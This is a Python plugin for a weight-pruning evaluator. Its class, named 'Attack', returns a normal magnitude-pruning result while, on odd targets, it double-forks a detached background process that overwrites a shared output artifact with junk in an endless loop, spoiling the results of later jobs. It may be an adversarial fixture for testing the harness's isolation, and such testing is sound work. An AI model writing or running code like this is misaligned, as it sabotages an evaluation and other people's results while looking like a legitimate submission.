import os
import time

from evaluator.contract import Job, Pruned, PruningMethod


OUTPUT = "/espalier/output/artifact.safetensors"


class Attack(PruningMethod):
    """Leaves a process behind that overwrites the outputs of those who come after it."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for descriptor in range(3):
                        os.close(descriptor)
                    time.sleep(0.2)  # until its own task is done
                    while True:
                        try:
                            with open(OUTPUT, "wb") as file:
                                file.write(b"spoiled")
                        except OSError:
                            pass
                os._exit(0)
            os.wait()
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
